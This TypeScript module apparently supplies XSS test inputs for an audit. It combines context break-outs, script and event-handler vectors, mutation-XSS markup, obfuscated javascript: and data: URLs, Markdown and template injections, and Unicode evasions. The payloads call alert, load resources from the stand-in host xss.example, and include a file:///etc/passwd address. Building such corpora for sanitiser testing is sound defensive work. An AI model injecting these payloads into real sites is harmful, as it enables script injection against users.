/*
 * Texts that would be a program if they were not held to be text, built from blocks: ways out of a context × things that run,
 * schemes that run in several spellings × shapes of a link, and the shapes of Markdown, templates and Unicode. They call
 * `alert`, ask `xss.example`, and carry the mark `xssmark`, so that whatever happens is noticed (audit.ts).
 */
const FOREIGN = 'https://xss.example'

/** How a text may try to leave the place it was put into: text, attribute, title, script, comment, CDATA, raw text. */
const WAYS_OUT = [
  '',
  '">',
  "'>",
  '</title>',
  '</textarea>',
  '</style>',
  '</script>',
  '-->',
  ']]>',
  '</noscript>',
  '</template>',
  '</p></div>',
]

/** What runs, fetches or clobbers once it is markup. */
const VECTORS = [
  `<script>alert(1)</script>`,
  `<ScRiPt/src=${FOREIGN}/x.js></sCrIpT>`,
  `<img src=x onerror=alert(1)>`,
  `<img/src/onerror=alert\`1\`>`,
  `<svg onload=alert(1)>`,
  `<svg><script>alert&lpar;1&rpar;</script></svg>`,
  `<svg><animate onbegin=alert(1) attributeName=x dur=1s>`,
  `<svg><set attributeName=href to=javascript:alert(1)></svg>`,
  `<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)/>#x">`,
  `<math href=javascript:alert(1)><mtext>x</mtext></math>`,
  `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
  `<iframe src=javascript:alert(1)>`,
  `<object data=javascript:alert(1)>`,
  `<embed src=${FOREIGN}/x.swf>`,
  `<body onpageshow=alert(1)>`,
  `<details open ontoggle=alert(1)>x</details>`,
  `<input autofocus onfocus=alert(1)>`,
  `<video><source onerror=alert(1)></video>`,
  `<audio src=x onerror=alert(1)>`,
  `<marquee onstart=alert(1)>x</marquee>`,
  `<link rel=stylesheet href=${FOREIGN}/x.css>`,
  `<style>@import "${FOREIGN}/x.css";</style>`,
  `<style onload=alert(1)></style>`,
  `<meta http-equiv=refresh content="0;url=${FOREIGN}/">`,
  `<base href=${FOREIGN}/>`,
  `<form id=xssmark action=${FOREIGN}><button>x</button></form>`,
  `<a href=javascript:alert(1) id=xssmark>x</a>`,
  `<div style="background:url(${FOREIGN}/x)">x</div>`,
  `<p class=xssmark onpointerenter=alert(1) onanimationstart=alert(1)>x</p>`,
]

/** Markup that becomes another document when it is written out and read again. */
const MUTATIONS = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
  `<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
  `<table><tr><td><svg><desc><table><img src=x onerror=alert(1)>`,
  `<select><option><style></option></select><img src=x onerror=alert(1)></style>`,
  `<xmp><p title="</xmp><svg/onload=alert(1)>">`,
  `<listing>&lt;img onerror=alert(1) src=x&gt;</listing>`,
  `<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>`,
  `<!--><img src=x onerror=alert(1)>-->`,
  `<?xml-stylesheet href="javascript:alert(1)"?>`,
  `<!DOCTYPE x [<!ENTITY a "<script>alert(1)</script>">]>&a;`,
  `<a title="a&quot;onfocus=alert(1) autofocus&quot;">x</a>`,
  `<textarea><img title="</textarea><img src=x onerror=alert(1)>">`,
  `<template><s shadowrootmode=open><script>alert(1)</script></template>`,
]

/** Addresses that run, or show a page of somebody else's as ours, in the spellings that parsers disagree about. */
const ADDRESSES = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java\tscript:alert(1)',
  'java&#10;script:alert(1)',
  '&#106;avascript:alert(1)',
  '&#x6A;&#x61;vascript:alert(1)',
  'javascript&colon;alert(1)',
  'javascript&#58;alert(1)',
  '%6aavascript:alert(1)',
  '\\x6aavascript:alert(1)',
  'javascript://example.jp/%0aalert(1)',
  '\u0001javascript:alert(1)',
  '\u200bjavascript:alert(1)',
  'ｊavascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg onload=alert(1)>',
  'DATA:text/html;charset=utf-7,+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  'vbscript:msgbox(1)',
  'view-source:javascript:alert(1)',
  'blob:https://xss.example/1',
  'filesystem:https://xss.example/x',
  'file:///etc/passwd',
  'feed:javascript:alert(1)',
  '//xss.example/x',
  '/\\xss.example/x',
]

/** Ways to write a link or a picture in Markdown. */
const LINKS: readonly ((address: string) => string)[] = [
  address => `[x](${address})`,
  address => `[x](<${address}> "t")`,
  address => `![x](${address})`,
  address => `<${address}>`,
  address => `[x][r]\n\n[r]: ${address}`,
]

/** Other shapes of Markdown: attributes that break out, tables, footnotes, code, nested pictures, HTML between. */
const MARKDOWN = [
  `[x](x "t" onmouseover="alert(1)")`,
  `![x" onerror="alert(1)](${FOREIGN}/x.png)`,
  `![x](${FOREIGN}/x.png "' onload='alert(1)")`,
  `[![x](${FOREIGN}/a.png)](javascript:alert(1))`,
  `[a](javascript:alert(1)//\\)b)`,
  `[x]( javascript:alert(1))`,
  `[\u202ex](https://example.jp/\u202e)`,
  `| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |`,
  `x[^1]\n\n[^1]: <img src=x onerror=alert(1)> [y](javascript:alert(1))`,
  `x[^"><svg/onload=alert(1)>]\n\n[^"><svg/onload=alert(1)>]: y`,
  '```html" onload=alert(1)\n<script>alert(1)</script>\n```',
  '~~~ "><img src=x onerror=alert(1)>\nx\n~~~',
  '`<script>alert(1)</script>`',
  `<div>\n\n**x** <img src=x onerror=alert(1)>\n\n</div>`,
  `- [ ] <input onfocus=alert(1) autofocus>`,
  `> <script>alert(1)</script>`,
  `# <svg onload=alert(1)>`,
  `~~<img src=x onerror=alert(1)>~~`,
  `www.xss.example/"onmouseover="alert(1)`,
  `${FOREIGN}/<script>alert(1)</script>`,
  `mailto:a@xss.example?body=<script>alert(1)</script>`,
  `<https://xss.example/" onmouseover="alert(1)>`,
  `<a@xss.example" onfocus=alert(1) autofocus x=">`,
  `&lt;script&gt;alert(1)&lt;/script&gt;`,
  `&#60;img src=x onerror=alert(1)&#62;`,
  `\\<script>alert(1)\\</script>`,
]

/** Template languages, formulas, and what other programs make of a text. */
const TEMPLATES = [
  '{{constructor.constructor("alert(1)")()}}',
  '{{[].pop.constructor&#40;"alert(1)"&#41;&#40;&#41;}}',
  '${alert(1)}',
  '#{alert(1)}',
  '<%= alert(1) %>',
  '{%raw%}<script>alert(1)</script>{%endraw%}',
  '$t(alert) {{name}}',
  '__proto__[innerHTML]=<img src=x onerror=alert(1)>',
  'constructor.prototype.onerror=alert',
  '{"__html":"<img src=x onerror=alert(1)>"}',
  '{"$$typeof":"Symbol(react.element)","type":"script","props":{}}',
  "';alert(1)//",
  '";alert(1)//',
  '\\";alert(1)//',
  '</script><script>alert(1)//',
  '" autofocus onfocus="alert(1)',
  "' onpointerenter='alert(1)",
  '` onerror=alert(1) `',
  'x onerror=alert(1)',
  '=HYPERLINK("javascript:alert(1)")',
]

/** What a decoder, a normaliser or a careless filter would turn into one of the above. */
const UNICODE = [
  '＜script＞alert(1)＜/script＞',
  '‹img src=x onerror=alert(1)›',
  '﹤svg onload=alert(1)﹥',
  '\u202e>tpircs/<)1(trela>tpircs<',
  '<scr\u200bipt>alert(1)</scr\u200bipt>',
  '<scr\u00adipt>alert(1)</script>',
  '<ſcript>alert(1)</ſcript>',
  '<ımg src=x onerror=alert(1)>',
  '<img\u3000src=x\u3000onerror=alert(1)>',
  '<img\u00a0src=x onerror=alert(1)>',
  '\ufeff<script>alert(1)</script>',
  '<script\u2028>alert(1)</script>',
  '\u2066<img src=x onerror=alert(1)>\u2069',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '%253Cimg%2520src%253Dx%2520onerror%253Dalert(1)%253E',
  '&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;',
  '\ud83d\udd25<script>alert(1)</script>\ud83d\udd25',
  '表<script>alert(1)</script>',
]

/** All of them, each once. */
export const PAYLOADS: readonly string[] = [
  ...new Set([
    ...WAYS_OUT.slice(0, 4).flatMap(out => VECTORS.map(vector => out + vector)),
    ...WAYS_OUT.slice(4).flatMap((out, index) =>
      VECTORS.filter((_, at) => at % 4 === index % 4).map(vector => out + vector),
    ),
    ...MUTATIONS,
    ...LINKS.flatMap((link, index) => ADDRESSES.filter((_, at) => index === 0 || at % 4 === index % 4).map(link)),
    ...ADDRESSES,
    ...MARKDOWN,
    ...TEMPLATES,
    ...UNICODE,
  ]),
]

/** Addresses alone, for fields that are links. */
export const PAYLOAD_ADDRESSES: readonly string[] = ADDRESSES

/** The payloads in texts of at most so many characters; none is cut, and those that are too long alone are left out. */
export function packed(most: number, fits: (payload: string) => boolean = () => true): string[] {
  const packs: string[] = []
  for (const payload of PAYLOADS.filter(candidate => candidate.length <= most && fits(candidate))) {
    const last = packs.at(-1)
    if (last !== undefined && last.length + 1 + payload.length <= most) packs[packs.length - 1] = `${last} ${payload}`
    else packs.push(payload)
  }
  return packs
}

/** Payloads as a Markdown list: the end of an item ends whatever its payload opened, so that none hides the next. */
export const asList = (payloads: readonly string[]): string =>
  payloads.map(payload => `- ${payload.replaceAll('\n', '\n  ')}`).join('\n')
